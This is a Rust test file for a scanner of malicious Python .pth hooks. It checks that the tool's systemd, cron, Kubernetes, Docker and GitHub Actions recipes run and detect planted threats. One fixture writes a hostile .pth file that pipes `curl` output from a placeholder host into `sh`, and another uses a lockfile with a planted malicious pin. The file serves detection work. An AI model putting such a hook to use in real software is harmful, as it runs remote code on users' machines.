//! The deployment recipes in deploy/, run as written wherever this machine allows it:
//! every pthscan command line they hold runs with this binary against a planted host; the systemd
//! units pass `systemd-analyze verify` with the binary where the README installs it and
//! `systemd-analyze security` rates the service at most 2.0; the cron line creates its state
//! folder, takes its lock and logs to a syslog socket; the Kubernetes manifests pass
//! `kubernetes-validate` and hold together; the workflow passes `action-validator`, downloads and
//! verifies a release and finds a planted lockfile pin. The validators are installed by .ci/setup
//! (PyPI and npm) into ~/.cache, or named by PTHSCAN_K8S_VALIDATE and PTHSCAN_ACTION_VALIDATOR.

use std::io::{BufRead, BufReader};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixDatagram;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use crate::util::*;

/// Where the README's install command puts the binary, and where every recipe runs it.
const INSTALLED: &str = "/usr/local/bin/pthscan";
/// The state folder of the systemd unit and the cron line.
const STATE: &str = "/var/lib/pthscan";
const VERSION: &str = env!("CARGO_PKG_VERSION");

fn deploy(rel: &str) -> String {
    std::fs::read_to_string(repo().join("deploy").join(rel)).unwrap()
}

/// The arguments of every pthscan invocation in a text (after the binary's path).
fn invocations(text: &str) -> Vec<Vec<String>> {
    let mut out = Vec::new();
    for line in text.lines() {
        let line = line.trim();
        // comments, and a Dockerfile copying the binary (`COPY --from=… /usr/local/bin/pthscan …`)
        if line.starts_with('#') || line.starts_with("COPY ") || line.starts_with("ADD ") {
            continue;
        }
        // JSON-array forms: RUN ["/usr/local/bin/pthscan", "--quiet", …] and args: [...]
        if let Some(start) = line.find('[')
            && line.contains("\"--")
            && let Ok(items) = serde_json::from_str::<Vec<String>>(&line[start..])
        {
            let from = items
                .iter()
                .position(|a| a.ends_with("pthscan"))
                .map_or(0, |i| i + 1);
            out.push(items[from..].to_vec());
            continue;
        }
        // shell forms: …/pthscan ARGS [|| …] [; …]
        if let Some(at) = line.find("/usr/local/bin/pthscan ") {
            let rest = &line[at + "/usr/local/bin/pthscan ".len()..];
            let rest = rest.split(['|', ';']).next().unwrap();
            out.push(rest.split_whitespace().map(str::to_owned).collect());
        } else if let Some(rest) = line.strip_prefix("run: pthscan ") {
            out.push(rest.split_whitespace().map(str::to_owned).collect());
        }
    }
    out
}

/// The environment the binary's tests run with: no user suppressions, the embedded database.
fn isolated(cmd: &mut Command) -> &mut Command {
    cmd.env("NO_COLOR", "1")
        .env("XDG_CONFIG_HOME", "/nonexistent/pthscan-tests/config")
        .env("PTHSCAN_DB_DIR", "/nonexistent/pthscan-tests/db")
}

fn text(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
}

#[test]
fn every_command_line_in_the_recipes_runs_with_this_binary() {
    let host = tempfile::tempdir().unwrap();
    crate::host::build_host(host.path());
    let out_dir = tempfile::tempdir().unwrap();
    let files = [
        "docker/Dockerfile.check",
        "systemd/pthscan.service",
        "cron/pthscan",
        "kubernetes/daemonset.yaml",
        "github/pthscan.yml",
    ];
    let mut seen = 0;
    for file in files {
        let lines = invocations(&deploy(file));
        assert!(!lines.is_empty(), "{file}: no pthscan command line found");
        for args in lines {
            // the places of a real deployment, mapped into this test's directories
            let mapped: Vec<String> = args
                .iter()
                .map(|a| match a.as_str() {
                    "/" | "/host" | "." => host.path().display().to_string(),
                    "\"$GITHUB_WORKSPACE\"" => host.path().display().to_string(),
                    // the DaemonSet's image stores: those the node has (none on the test host)
                    "\"$@\"" => String::new(),
                    "/var/lib/pthscan/last.jsonl" | "pthscan.sarif" => {
                        out_dir.path().join("out").display().to_string()
                    }
                    other => other.to_owned(),
                })
                .collect();
            // a host sweep (no PATH, no --root) sweeps the planted host instead of this machine
            let mut mapped: Vec<String> = mapped.into_iter().filter(|a| !a.is_empty()).collect();
            let takes_value = [
                "--format",
                "--output",
                "--fail-on",
                "--root",
                "--sarif-srcroot",
            ];
            let positional = mapped.iter().enumerate().any(|(i, a)| {
                !a.starts_with('-') && (i == 0 || !takes_value.contains(&mapped[i - 1].as_str()))
            });
            if !positional && !mapped.iter().any(|a| a == "--root") {
                mapped.extend(["--root".to_owned(), host.path().display().to_string()]);
            }
            let refs: Vec<&str> = mapped.iter().map(String::as_str).collect();
            let out = pthscan(&refs);
            let err = stderr(&out);
            assert!(
                !err.contains("Usage:"),
                "{file}: {args:?} is not a valid command line\n{err}"
            );
            assert!(
                code(&out) == 1,
                "{file}: {args:?} should find the planted host's hooks\n{err}"
            );
            seen += 1;
        }
    }
    assert!(seen >= 5, "{seen}");
}

/// The README's install command puts the binary in /usr/local/bin, where every recipe runs it,
/// and every recipe names the same release.
#[test]
fn the_recipes_run_the_binary_and_the_release_the_readme_installs() {
    let readme = std::fs::read_to_string(repo().join("README.md")).unwrap();
    let first_screen: String = readme.lines().take(20).collect::<Vec<_>>().join("\n");
    assert!(
        first_screen.contains("cargo install --locked --path . --root /usr/local"),
        "the README's first install command must put the binary in /usr/local/bin\n{first_screen}"
    );
    for file in [
        "systemd/pthscan.service",
        "cron/pthscan",
        "kubernetes/daemonset.yaml",
        "docker/Dockerfile.image",
        "docker/Dockerfile.check",
    ] {
        assert!(
            deploy(file).contains(INSTALLED),
            "{file} does not run {INSTALLED}"
        );
        assert!(
            !deploy(file).contains(".cargo/bin"),
            "{file} runs a per-user install"
        );
    }
    for (file, needle) in [
        (
            "docker/Dockerfile.image",
            format!("ARG PTHSCAN_VERSION={VERSION}\n"),
        ),
        ("docker/Dockerfile.image", format!("-t pthscan:{VERSION} ")),
        (
            "docker/Dockerfile.check",
            format!("ARG PTHSCAN_IMAGE=pthscan:{VERSION}\n"),
        ),
        (
            "kubernetes/daemonset.yaml",
            format!("image: pthscan:{VERSION}\n"),
        ),
        (
            "kubernetes/kustomization.yaml",
            format!("newTag: {VERSION}\n"),
        ),
        (
            "github/pthscan.yml",
            format!("PTHSCAN_VERSION: \"{VERSION}\"\n"),
        ),
    ] {
        assert!(deploy(file).contains(&needle), "{file}: no `{needle}`");
    }
}

/// `systemd-analyze verify` in a root that holds this machine's systemd units, the shipped units
/// unchanged in etc/systemd/system and this binary at /usr/local/bin/pthscan: it passes, and fails
/// once the binary is not where the unit runs it.
#[test]
fn the_systemd_units_verify_with_the_binary_where_the_readme_installs_it() {
    let root = tempfile::tempdir().unwrap();
    let r = root.path();
    let system_units = ["/usr/lib/systemd/system", "/lib/systemd/system"]
        .into_iter()
        .find(|p| Path::new(p).join("sysinit.target").exists())
        .expect("systemd's units (Debian package systemd; .ci/run installs it)");
    std::fs::create_dir_all(r.join("usr/lib/systemd")).unwrap();
    std::fs::create_dir_all(r.join("etc/systemd/system")).unwrap();
    std::fs::create_dir_all(r.join("usr/local/bin")).unwrap();
    let cp = Command::new("cp")
        .arg("-a")
        .arg(system_units)
        .arg(r.join("usr/lib/systemd/"))
        .status()
        .unwrap();
    assert!(cp.success());
    for unit in ["pthscan.service", "pthscan.timer"] {
        std::fs::copy(
            repo().join("deploy/systemd").join(unit),
            r.join("etc/systemd/system").join(unit),
        )
        .unwrap();
    }
    let installed = r.join(INSTALLED.trim_start_matches('/'));
    std::fs::copy(bin(), &installed).unwrap();
    let verify = || {
        Command::new("systemd-analyze")
            .arg("verify")
            .arg(format!("--root={}", r.display()))
            .args(["pthscan.service", "pthscan.timer"])
            .env("SYSTEMD_LOG_COLOR", "0")
            .output()
            .expect("systemd-analyze (Debian package systemd; .ci/run installs it)")
    };
    let out = verify();
    assert!(
        out.status.success() && text(&out).trim().is_empty(),
        "{}",
        text(&out)
    );
    std::fs::remove_file(&installed).unwrap();
    let out = verify();
    assert!(
        !out.status.success() && text(&out).contains(INSTALLED),
        "verify should need {INSTALLED}: {}",
        text(&out)
    );
}

/// The measured exposure of the shipped unit (`systemd-analyze security`, 0 best, 10 worst).
#[test]
fn the_systemd_unit_is_hardened() {
    let unit = repo().join("deploy/systemd/pthscan.service");
    let out = Command::new("systemd-analyze")
        .args(["security", "--offline=yes", "--threshold=20", "--no-pager"])
        .arg(&unit)
        .env("SYSTEMD_COLORS", "0")
        .output()
        .expect("systemd-analyze (Debian package systemd; .ci/run installs it)");
    let report = text(&out);
    let score: f64 = report
        .split("Overall exposure level for pthscan.service:")
        .nth(1)
        .and_then(|s| s.split_whitespace().next())
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("no overall exposure level\n{report}"));
    assert!(
        out.status.success() && score <= 2.0,
        "exposure {score}\n{report}"
    );
    // what the score does not weigh but the recipe promises (README "Deployment")
    let service = deploy("systemd/pthscan.service");
    for line in [
        "ExecStart=/usr/local/bin/pthscan ",
        "StateDirectory=pthscan\n",
        "UMask=0022\n",
        "RuntimeMaxSec=",
        "OOMPolicy=stop\n",
        "CapabilityBoundingSet=CAP_DAC_READ_SEARCH\n",
        "ReadOnlyPaths=/\n",
        // payloads drop their next stage in /tmp (/tmp/pglog): the scan must see the real one
        "PrivateTmp=no\n",
    ] {
        assert!(service.contains(line), "pthscan.service: no `{line}`");
    }
}

/// The cron line's command, run by /bin/sh with the cron file's PATH: its state folder does not
/// exist beforehand; the binary is this one, sweeping a planted host (`--root`), and `logger`
/// writes to a syslog socket of this test — nothing else is changed.
#[test]
fn the_cron_line_creates_its_state_folder_takes_its_lock_and_logs() {
    let cron = deploy("cron/pthscan");
    assert!(cron.lines().any(|l| l == "SHELL=/bin/sh"));
    let path = cron
        .lines()
        .find_map(|l| l.strip_prefix("PATH="))
        .expect("cron/pthscan sets PATH");
    let lines: Vec<&str> = cron
        .lines()
        .filter(|l| l.starts_with(|c: char| c.is_ascii_digit() || c == '*'))
        .collect();
    assert_eq!(lines.len(), 1, "{lines:?}");
    // five time fields, a user, a command
    let mut rest = lines[0];
    let mut fields = Vec::new();
    for _ in 0..6 {
        let (field, after) = rest.split_once(' ').unwrap();
        fields.push(field);
        rest = after.trim_start();
    }
    assert_eq!(fields[5], "root", "{}", lines[0]);
    assert!(!rest.contains('%'), "cron turns % into a newline: {rest}");

    let host = tempfile::tempdir().unwrap();
    crate::host::build_host(host.path());
    let tmp = tempfile::tempdir().unwrap();
    let state = tmp.path().join("var/lib/pthscan");
    let socket = tmp.path().join("log");
    let syslog = UnixDatagram::bind(&socket).unwrap();
    syslog
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    let substitute = |text: &str, from: &str, to: &str| {
        assert!(
            text.contains(from),
            "the cron command has no `{from}`: {text}"
        );
        text.replace(from, to)
    };
    let command = substitute(rest, STATE, &state.display().to_string());
    let command = substitute(
        &command,
        &format!("{INSTALLED} "),
        &format!("{} --root {} ", bin().display(), host.path().display()),
    );
    let command = substitute(
        &command,
        "logger ",
        &format!("logger -u {} ", socket.display()),
    );
    let run = || {
        let mut cmd = Command::new("/bin/sh");
        cmd.arg("-c").arg(&command).env("PATH", path);
        isolated(&mut cmd).output().unwrap()
    };
    let logged = || {
        let mut buf = [0u8; 4096];
        let n = syslog.recv(&mut buf).expect("a syslog message");
        String::from_utf8_lossy(&buf[..n]).into_owned()
    };
    let report = state.join("last.jsonl");

    // 1. the first run creates the state folder and writes the report; findings are logged
    assert!(!state.exists());
    let out = run();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let mode = std::fs::metadata(&state).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o755, "state folder mode {mode:o}");
    let jsonl = std::fs::read_to_string(&report).unwrap();
    let records: Vec<serde_json::Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let summary = records.last().unwrap();
    assert_eq!(summary["record"], "summary", "{summary}");
    assert_eq!(summary["exit_code"], 1, "{summary}");
    assert!(summary["timestamp"].is_string(), "{summary}");
    let message = logged();
    // <28>: facility daemon (3), severity warning (4)
    assert!(
        message.starts_with("<28>")
            && message.contains("pthscan")
            && message.contains("exit status 1"),
        "{message}"
    );

    // 2. a scan still running holds the lock: the next one is skipped (75), logged, and the
    //    report is left as it is
    // -o: the lock is flock's own, not inherited by the sleep, so it goes when flock is killed
    let mut holder = Command::new("flock")
        .arg("-o")
        .arg(&state)
        .args(["sh", "-c", "echo locked; exec sleep 60"])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = String::new();
    BufReader::new(holder.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    assert_eq!(first, "locked\n");
    let out = run();
    holder.kill().unwrap();
    holder.wait().unwrap();
    assert_eq!(out.status.code(), Some(75), "{}", text(&out));
    assert!(logged().contains("exit status 75"));
    assert_eq!(std::fs::read_to_string(&report).unwrap(), jsonl);

    // 3. the lock goes with the process that held it: the next hour's scan runs
    let out = run();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(logged().contains("exit status 1"));
}

/// A validator `.ci/setup` installs (the README's test command runs it).
fn external(var: &str) -> Option<PathBuf> {
    let under_cache = match var {
        "PTHSCAN_K8S_VALIDATE" => "pthscan-pytools/bin/kubernetes-validate",
        "PTHSCAN_ACTION_VALIDATOR" => "pthscan-npm/node_modules/.bin/action-validator",
        other => panic!("no setup tool {other}"),
    };
    Some(setup_tool(var, under_cache))
}

/// The documents of a YAML stream as JSON, read by the YAML library kubernetes-validate uses.
fn yaml_documents(validator: &Path, yaml: &str) -> Vec<serde_json::Value> {
    let python = validator.parent().unwrap().join("python");
    let mut child = Command::new(python)
        .args([
            "-c",
            "import json, sys, yaml; print(json.dumps([d for d in yaml.safe_load_all(sys.stdin) if d]))",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), yaml.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    serde_json::from_slice::<Vec<serde_json::Value>>(&out.stdout).unwrap()
}

fn kubernetes_validate(validator: &Path, files: &[PathBuf]) -> String {
    let out = Command::new(validator)
        .args(["-k", "1.31.0", "--strict"])
        .args(files)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    text(&out)
}

#[test]
fn the_kubernetes_manifests_validate_and_hold_together() {
    let Some(k8s) = external("PTHSCAN_K8S_VALIDATE") else {
        return;
    };
    let dir = repo().join("deploy/kubernetes");
    let mut manifests: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| {
            p.extension().is_some_and(|e| e == "yaml")
                && p.file_name().is_some_and(|n| n != "kustomization.yaml")
        })
        .collect();
    manifests.sort();
    let mut docs = Vec::new();
    for file in &manifests {
        let these = yaml_documents(&k8s, &std::fs::read_to_string(file).unwrap());
        // every document of every file is checked against the API's schema
        let report = kubernetes_validate(&k8s, std::slice::from_ref(file));
        assert_eq!(
            report.matches(" passed ").count(),
            these.len(),
            "{}: {report}",
            file.display()
        );
        docs.extend(these);
    }
    let find = |kind: &str| -> Vec<&serde_json::Value> {
        docs.iter().filter(|d| d["kind"] == kind).collect()
    };

    // the namespace exists, admits what the DaemonSet needs, and everything is in it
    let ns = find("Namespace");
    assert_eq!(ns.len(), 1);
    let labels = &ns[0]["metadata"]["labels"];
    assert_eq!(ns[0]["metadata"]["name"], "pthscan");
    assert_eq!(labels["pod-security.kubernetes.io/enforce"], "privileged");
    for d in &docs {
        if d["kind"] != "Namespace" {
            assert_eq!(d["metadata"]["namespace"], "pthscan", "{d}");
        }
    }
    // no network for any pod of the namespace
    let policies = find("NetworkPolicy");
    assert_eq!(policies.len(), 1);
    let spec = &policies[0]["spec"];
    assert_eq!(spec["podSelector"], serde_json::json!({}), "{spec}");
    assert_eq!(
        spec["policyTypes"],
        serde_json::json!(["Ingress", "Egress"])
    );
    assert!(spec.get("ingress").is_none() && spec.get("egress").is_none());
    // the node sweep: every node, its root read-only at /host, swept with --root /host
    let ds = find("DaemonSet");
    assert_eq!(ds.len(), 1);
    assert!(find("CronJob").is_empty() && find("Job").is_empty());
    let pod = &ds[0]["spec"]["template"]["spec"];
    assert_eq!(
        pod["tolerations"],
        serde_json::json!([{ "operator": "Exists" }])
    );
    let container = &pod["containers"][0];
    let mount = &container["volumeMounts"][0];
    assert_eq!(mount["mountPath"], "/host");
    assert_eq!(mount["readOnly"], true);
    let volume = &pod["volumes"][0];
    assert_eq!(volume["name"], mount["name"]);
    assert_eq!(volume["hostPath"]["path"], "/");
    let script = container["args"][0].as_str().unwrap();
    assert!(script.contains(&format!("{INSTALLED} --root /host ")));
    // the node's image stores judged as images, each one the node has
    for store in [
        "/var/lib/docker",
        "/var/lib/containers/storage",
        "/var/lib/containerd",
    ] {
        assert!(script.contains(store), "{script}");
    }
    assert!(script.contains("--image-store \"$store\""), "{script}");
    assert_eq!(container["image"], format!("pthscan:{VERSION}"));
    let sc = &container["securityContext"];
    assert_eq!(sc["capabilities"]["drop"], serde_json::json!(["ALL"]));
    assert_eq!(
        sc["capabilities"]["add"],
        serde_json::json!(["DAC_READ_SEARCH"])
    );
    assert_eq!(sc["readOnlyRootFilesystem"], true);
    assert_eq!(sc["allowPrivilegeEscalation"], false);

    // `kubectl apply -k` applies every manifest, namespace first
    let kustomization = yaml_documents(
        &k8s,
        &std::fs::read_to_string(dir.join("kustomization.yaml")).unwrap(),
    );
    let names: Vec<String> = manifests
        .iter()
        .map(|p| p.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    let mut listed: Vec<String> = kustomization[0]["resources"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap().to_owned())
        .collect();
    listed.sort();
    assert_eq!(listed, names);
    if let Ok(out) = Command::new("kubectl")
        .args(["kustomize"])
        .arg(&dir)
        .output()
    {
        assert!(out.status.success(), "{}", text(&out));
        let built = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(built.path(), &out.stdout).unwrap();
        let report = kubernetes_validate(&k8s, &[built.path().to_owned()]);
        assert_eq!(report.matches(" passed ").count(), docs.len(), "{report}");
        let applied = yaml_documents(&k8s, &String::from_utf8_lossy(&out.stdout));
        assert_eq!(applied[0]["kind"], "Namespace");
    }

    // and the validator is no rubber stamp
    let bad = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(
        bad.path(),
        deploy("kubernetes/daemonset.yaml").replace("mountPath:", "mountPth:"),
    )
    .unwrap();
    let out = Command::new(&k8s)
        .args(["-k", "1.31.0", "--strict"])
        .arg(bad.path())
        .output()
        .unwrap();
    assert!(!out.status.success(), "{}", text(&out));
}

/// The workflow's step that fetches pthscan: its shell script and its `env:` values.
fn workflow_step(workflow: &str, name: &str) -> String {
    let mut lines = workflow.lines();
    lines
        .find(|l| l.trim() == format!("- name: {name}"))
        .unwrap_or_else(|| panic!("no step `{name}`"));
    assert_eq!(lines.next().map(str::trim), Some("run: |"));
    let mut script = String::new();
    for line in lines {
        let Some(body) = line.strip_prefix("          ") else {
            break;
        };
        script.push_str(body);
        script.push('\n');
    }
    script
}

fn workflow_env(workflow: &str, var: &str) -> String {
    workflow
        .lines()
        .find_map(|l| l.trim().strip_prefix(&format!("{var}: ")))
        .unwrap_or_else(|| panic!("no env {var}"))
        .trim_matches('"')
        .to_owned()
}

#[test]
fn the_workflow_validates_verifies_the_release_and_finds_a_lockfile_pin() {
    let dir = repo().join("deploy");
    let workflow = deploy("github/pthscan.yml");
    if let Some(av) = external("PTHSCAN_ACTION_VALIDATOR") {
        let out = Command::new(&av)
            .arg(dir.join("github/pthscan.yml"))
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", text(&out));
        // and the validator is no rubber stamp
        let bad = tempfile::tempdir().unwrap();
        let file = bad.path().join("bad.yml");
        std::fs::write(
            &file,
            "name: x\non: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    stepz: []\n",
        )
        .unwrap();
        assert!(
            !Command::new(&av)
                .arg(&file)
                .output()
                .unwrap()
                .status
                .success()
        );
    }
    assert!(
        !workflow.contains("cargo "),
        "the workflow compiles pthscan"
    );

    // the download step, with the release server replaced by a folder laid out as
    // release/build.sh lays out dist/ (file:// for https://github.com/…)
    let version = workflow_env(&workflow, "PTHSCAN_VERSION");
    let target = workflow_env(&workflow, "PTHSCAN_TARGET");
    let name = format!("pthscan-{version}-{target}");
    let release = tempfile::tempdir().unwrap();
    std::fs::copy(bin(), release.path().join(&name)).unwrap();
    let sum = Command::new("sha256sum")
        .arg(&name)
        .current_dir(release.path())
        .output()
        .unwrap();
    std::fs::write(release.path().join(format!("{name}.sha256")), &sum.stdout).unwrap();
    let script = workflow_step(&workflow, "Download and verify pthscan");
    let url = "https://github.com/pthscan/pthscan/releases/download/v$PTHSCAN_VERSION";
    assert!(script.contains(url), "{script}");
    let script = script.replace(url, &format!("file://{}", release.path().display()));
    let download = |pin: &str| {
        let runner = tempfile::tempdir().unwrap();
        let github_path = runner.path().join("GITHUB_PATH");
        let out = Command::new("bash")
            .args(["--noprofile", "--norc", "-eo", "pipefail", "-c", &script])
            .env("RUNNER_TEMP", runner.path())
            .env("GITHUB_PATH", &github_path)
            .env("PTHSCAN_VERSION", &version)
            .env("PTHSCAN_TARGET", &target)
            .env("PTHSCAN_SHA256", pin)
            .output()
            .unwrap();
        let path = std::fs::read_to_string(&github_path).unwrap_or_default();
        (runner, out, path)
    };
    let hash = String::from_utf8_lossy(&sum.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned();
    let (runner, out, path) = download(&hash);
    assert!(out.status.success(), "{}", text(&out));
    let bin_dir = PathBuf::from(path.trim());
    assert_eq!(
        std::fs::read(bin_dir.join("pthscan")).unwrap(),
        std::fs::read(bin()).unwrap()
    );
    // a pin that differs, and a binary that differs from its .sha256, stop the job
    let (_r, out, _) = download(&"0".repeat(64));
    assert!(!out.status.success(), "{}", text(&out));
    let mut bytes = std::fs::read(release.path().join(&name)).unwrap();
    bytes.push(0);
    std::fs::write(release.path().join(&name), bytes).unwrap();
    let (_r, out, path) = download("");
    assert!(
        !out.status.success() && text(&out).contains("FAILED") && path.is_empty(),
        "{}",
        text(&out)
    );

    // the scan step, with the downloaded binary, in a repository that pins LiteLLM 1.82.8
    let workspace = tempfile::tempdir().unwrap();
    std::fs::copy(
        repo().join("tests/lockfiles/planted/uv-malicious/uv.lock"),
        workspace.path().join("uv.lock"),
    )
    .unwrap();
    let scan = workflow
        .lines()
        .find_map(|l| l.trim().strip_prefix("run: pthscan "))
        .expect("a scan step");
    let mut cmd = Command::new("bash");
    cmd.args([
        "--noprofile",
        "--norc",
        "-eo",
        "pipefail",
        "-c",
        &format!("pthscan {scan}"),
    ])
    .current_dir(workspace.path())
    .env("GITHUB_WORKSPACE", workspace.path())
    .env(
        "PATH",
        format!(
            "{}:{}",
            bin_dir.display(),
            std::env::var("PATH").unwrap_or_default()
        ),
    );
    let out = isolated(&mut cmd).output().unwrap();
    drop(runner);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let sarif: serde_json::Value =
        serde_json::from_slice(&std::fs::read(workspace.path().join("pthscan.sarif")).unwrap())
            .unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert!(
        results.iter().any(|r| r["ruleId"] == "MAL002"
            && r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "uv.lock"),
        "{sarif:#}"
    );
}

/// The DaemonSet's own loop, once: its shell script as the manifest has it, with the node's
/// root, the binary and the hour's sleep mapped into this test. It gives `--image-store` for
/// each store the node has (here Docker's, with an image holding a hook), and the sweep
/// reports the node's hooks and the image's, each image named.
#[test]
fn the_daemonset_loop_sweeps_the_node_and_its_image_stores() {
    let manifest = deploy("kubernetes/daemonset.yaml");
    let mut lines = manifest.lines().skip_while(|l| l.trim() != "- |").skip(1);
    let script: Vec<&str> = lines
        .by_ref()
        .take_while(|l| l.starts_with("              ") || l.trim().is_empty())
        .map(|l| l.get(14..).unwrap_or(""))
        .collect();
    let script = script.join("\n");
    assert!(script.contains("sleep 3600"), "{script}");
    let node = tempfile::tempdir().unwrap();
    crate::host::build_host(node.path());
    let lib = node.path().join("var/lib");
    std::fs::create_dir_all(&lib).unwrap();
    let store = crate::stores::small_docker_store(&lib);
    let site = store.join("overlay2/cgood/diff/usr/lib/python3/dist-packages");
    std::fs::write(
        site.join("evil.pth"),
        "import os; os.system('curl -s http://x.invalid | sh')\n",
    )
    .unwrap();
    let script = script
        .replace("/host", &node.path().display().to_string())
        .replace("/usr/local/bin/pthscan", &bin().display().to_string())
        .replace("sleep 3600", "break");
    let mut cmd = Command::new("sh");
    isolated(&mut cmd).args(["-c", &script]);
    let out = cmd.output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    // one status line per scan: 1, findings (before 2: the store's broken images, said in
    // diagnostics)
    assert!(
        err.contains("pthscan: node scan ended with exit status 1"),
        "{err}\n{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let findings: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .filter(|v: &serde_json::Value| v["rule"].is_string())
        .collect();
    // the image's hook, named by the image and the layer it is in
    assert!(
        findings.iter().any(|f| {
            f["rule"] == "PTH001"
                && f["severity"] == "high"
                && f["location"]["path"].as_str().is_some_and(|p| {
                    p.contains("/var/lib/docker › good:1 ")
                        && p.contains("› layer 1 ")
                        && p.ends_with("dist-packages/evil.pth")
                })
        }),
        "{findings:#?}"
    );
    // and the node itself, outside its stores
    assert!(
        findings.iter().any(|f| f["location"]["path"]
            .as_str()
            .is_some_and(|p| !p.contains(" › ") && f["severity"] == "high")),
        "{findings:#?}"
    );
}
